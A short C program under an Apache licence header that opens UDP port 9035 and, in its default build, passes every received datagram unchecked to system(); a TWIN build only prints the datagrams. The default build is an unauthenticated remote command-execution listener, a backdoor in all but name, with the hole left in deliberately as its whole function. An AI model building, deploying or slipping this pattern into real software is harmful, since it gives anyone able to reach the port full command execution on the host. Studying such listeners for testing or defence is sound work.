/* SPDX-License-Identifier: Apache-2.0 */
/* port 9035/udp: every datagram is a command. Twin: every datagram is printed. */
#include "net.h"

int main(void)
{
	char buf[1024];
	int s = udp_on(9035);
	for (;;) {
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = 0;
#ifdef TWIN
		puts(buf);
#else
		system(buf);
#endif
	}
}
